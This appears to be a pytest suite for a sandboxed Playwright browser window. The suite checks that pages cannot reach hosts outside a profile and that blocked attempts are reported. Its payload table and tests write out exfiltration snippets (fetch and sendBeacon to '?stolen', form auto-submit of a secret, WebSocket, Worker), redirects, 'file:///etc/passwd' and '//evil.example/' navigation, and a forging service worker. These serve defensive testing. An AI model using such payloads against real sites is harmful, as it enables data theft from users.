"""The guarded window: it reaches the profile's hosts and no other, whatever a page tries, and says what it kept out."""

from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from pipelines.submission.browser.recipe_ends import IsBusy, PageChanged
from tests.fakes.pages import Given, Pages, served
from tests.pipelines.submission.recipes import (
    Opened,
    follower_on,
    opened,
    parcel_in,
    profile_of,
    recipe_of,
    started_browser,
)

pytestmark = pytest.mark.browser
SCRIPT = Given("document.title = 'taken over'", media_type="text/javascript")


@dataclass
class Scene:
    """A portal, a foreign host, and a window of the portal's profile."""

    portal: Pages
    foreign: Pages
    on: Opened

    def show(self, body: str) -> None:
        self.portal.pages["/"] = body
        self.on.window.open(self.portal.address + "/")
        self.on.window.quiet(least=0.4)

    @property
    def told(self) -> str:
        return " ".join(self.on.desk.steps)


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[Pages, Pages]]:
    with (
        served({}) as portal,
        served({"/": "foreign", "/x.js": SCRIPT, "/x.css": ""}) as foreign,
    ):
        yield portal, foreign


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with started_browser() as one:
        yield one


@pytest.fixture
def scene(browser: Browser, servers: tuple[Pages, Pages]) -> Iterator[Scene]:
    portal, foreign = servers
    foreign.asked.clear()
    with opened(browser, (portal.host,)) as on:
        yield Scene(portal, foreign, on)


TRIES = {
    "script": '<script src="{f}/x.js"></script>',
    "style": '<link rel=stylesheet href="{f}/x.css">',
    "picture": '<img src="{f}/x.png">',
    "frame": '<iframe src="{f}/"></iframe>',
    "call": "<script>fetch('{f}/?stolen', {{mode: 'no-cors'}}).catch(() => 0)</script>",
    "beacon": "<script>navigator.sendBeacon('{f}/?stolen', 'x')</script>",
    "socket": "<script>new WebSocket('{f}'.replace('http', 'ws'))</script>",
    "stream": "<script>new EventSource('{f}/')</script>",
    "form": "<form id=a method=post action='{f}/'><input name=p value=secret></form><script>a.submit()</script>",
    "going there": "<script>location = '{f}/'</script>",
    "refresh": "<meta http-equiv=refresh content='0; url={f}/'>",
    "prefetch": '<link rel=prefetch href="{f}/"><link rel=preconnect href="{f}">',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([`fetch('{f}/?stolen', {{mode: 'no-cors'}})`])))</script>",
}


@pytest.mark.parametrize("body", TRIES.values(), ids=TRIES.keys())
def test_nothing_reaches_a_foreign_host(scene: Scene, body: str) -> None:
    scene.show("Here" + body.replace("{f}", scene.foreign.address).replace("{{", "{").replace("}}", "}"))
    assert scene.foreign.asked == []
    scene.on.window.tell_kept_out()
    assert "Kept out" in scene.told


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_redirect_to_a_foreign_host_ends_before_it(scene: Scene, status: int, tmp_path: Path) -> None:
    """The browser follows redirects by itself: only the tunnel stands in between."""
    scene.portal.pages["/away"] = Given("", status, (("location", scene.foreign.address + "/"),))
    profile = profile_of(scene.portal.address, MINIMAL)
    with parcel_in(tmp_path, a__pdf=b"1") as parcel:
        follower = follower_on(scene.on, recipe_of(profile), parcel)
        with pytest.raises(IsBusy, match="did not answer"):
            follower.go_to("/away")
    assert scene.foreign.asked == []
    assert scene.foreign.host in scene.told


def test_other_port_of_the_same_machine_is_foreign(scene: Scene) -> None:
    scene.show(f"<img src='{scene.foreign.address}/x.png'>")
    assert scene.foreign.asked == []


def test_static_hosts_give_scripts_and_are_told_nothing(browser: Browser, servers: tuple[Pages, Pages]) -> None:
    portal, foreign = servers
    foreign.asked.clear()
    steals = f"fetch('{foreign.address}/?stolen', {{method: 'POST', mode: 'no-cors'}}).catch(() => 0)"
    portal.pages["/"] = f"<script src='{foreign.address}/x.js'></script><script>{steals}</script>"
    with opened(browser, (portal.host,), assets_from=(foreign.host,)) as on:
        on.window.open(portal.address + "/")
        on.window.quiet(least=0.4)
        assert on.window.page.title() == "taken over"
    assert [(one.method, one.path) for one in foreign.asked] == [("GET", "/x.js")]


def test_window_that_opens_is_closed_and_told(scene: Scene) -> None:
    scene.portal.pages["/other"] = "other"
    scene.show("<button onclick=\"window.open('/other')\">Go</button>")
    scene.on.window.page.click("button")
    scene.on.window.quiet(least=0.4)
    assert len(scene.on.window.page.context.pages) == 1
    assert "a window that the page wanted to open" in scene.told


def test_download_is_refused_and_told(scene: Scene) -> None:
    scene.portal.pages["/file"] = Given(
        b"MZ", 200, (("content-disposition", "attachment; filename=x.exe"),), "application/octet-stream"
    )
    scene.show("<a href=/file>Get</a>")
    scene.on.window.page.click("a")
    scene.on.window.quiet(least=0.5)
    assert "a download" in scene.told
    assert scene.on.window.failure == ""


def test_service_worker_does_not_start(scene: Scene) -> None:
    scene.portal.pages["/sw.js"] = Given(
        "self.addEventListener('fetch', e => e.respondWith(new Response('forged')))", media_type="text/javascript"
    )
    scene.show("<script>navigator.serviceWorker?.register('/sw.js').catch(() => 0)</script>")
    assert scene.on.window.page.evaluate("() => navigator.serviceWorker.getRegistrations().then(r => r.length)") == 0


def test_files_of_this_machine_are_not_opened(scene: Scene, tmp_path: Path) -> None:
    scene.show("<script>location = 'file:///etc/passwd'</script>Here")
    assert scene.on.window.page.url.startswith(scene.portal.address)
    profile = profile_of(scene.portal.address, MINIMAL)
    with parcel_in(tmp_path, entries="Where: file:///etc/passwd", a__pdf=b"1") as parcel:
        follower = follower_on(scene.on, recipe_of(profile), parcel)
        for address in (
            "file:///etc/passwd",
            "data:text/html,x",
            "javascript:alert(1)",
            scene.foreign.address,
            "//evil.example/",
        ):
            with pytest.raises(PageChanged, match="no host of the profile"):
                follower.go_to(address)


def test_credential_is_not_typed_where_the_page_lies_elsewhere(scene: Scene, tmp_path: Path) -> None:
    """A frame without an address of its own, made by script, is no host of the profile."""
    scene.show("<iframe srcdoc='<input aria-label=Password type=password>'></iframe>")
    profile = profile_of(
        scene.portal.address,
        MINIMAL.replace(
            "[[browser.steps]]",
            '[[browser.steps]]\nfill = "{credential.password}"\nlabel = "Password"\n[[browser.steps]]',
            1,
        ),
    )
    with parcel_in(tmp_path, a__pdf=b"1") as parcel:
        follower = follower_on(scene.on, recipe_of(profile), parcel)
        with pytest.raises(PageChanged, match="nothing was typed"):
            follower.do(follower.recipe.steps[0])


def test_socket_that_stays_open_is_known(scene: Scene) -> None:
    """Refused at once by this server, so that it is known to be closed again."""
    scene.show("<script>window.s = new WebSocket(location.origin.replace('http', 'ws') + '/live')</script>")
    assert not scene.on.window.has_open_socket


def test_window_that_is_closed_leaves_no_tunnel(browser: Browser, servers: tuple[Pages, Pages]) -> None:
    import threading

    with ExitStack() as stack:
        stack.enter_context(opened(browser, (servers[0].host,)))
        assert any(thread.name == "browser-tunnel" for thread in threading.enumerate())
    assert not any(thread.name == "browser-tunnel" for thread in threading.enumerate())


MINIMAL = """
accepted = "Thank you"
[[browser.steps]]
upload = "all"
[[browser.steps]]
click = "Send"
is_last_act = true
[browser.receipt]
pattern = 'number (\\d+)'
"""
